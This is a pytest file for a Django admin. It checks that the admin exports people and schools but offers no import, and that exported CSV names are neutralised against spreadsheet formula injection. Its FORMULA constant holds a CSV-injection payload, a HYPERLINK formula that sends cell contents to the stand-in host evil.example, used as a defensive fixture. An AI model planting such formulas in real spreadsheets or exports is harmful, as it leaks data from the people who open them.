"""The admin exports people and schools but imports nothing (the product's
importer does, with its dry run and history), and what it exports cannot
run as a spreadsheet formula (issue 17 §7, issue 19 #1)."""

import csv
import io

import pytest
from django.urls import NoReverseMatch, reverse

from program.models import Orang

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize("model", ["orang", "sekolah", "penugasansekolah"])
def test_the_admin_offers_no_import_of_its_own(client, demo, model):
    with pytest.raises(NoReverseMatch):
        reverse(f"admin:program_{model}_import")
    client.force_login(demo["admin"])
    page = client.get(reverse(f"admin:program_{model}_changelist")).content.decode()
    assert reverse(f"admin:program_{model}_export") in page
    assert f"/admin/program/{model}/import/" not in page


def test_a_name_written_as_a_formula_is_exported_as_text(client, demo):
    Orang.objects.filter(user=demo["pp1"]).update(nama=FORMULA)
    client.force_login(demo["admin"])
    form = client.get(reverse("admin:program_orang_export")).context["form"]
    csv_index = next(v for v, label in form.fields["format"].choices if str(label).lower() == "csv")

    response = client.post(
        reverse("admin:program_orang_export"),
        {"resource": 0, "format": csv_index, "orangresource_id": "on", "orangresource_nama": "on"},
    )

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert any("HYPERLINK" in n for n in names)
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
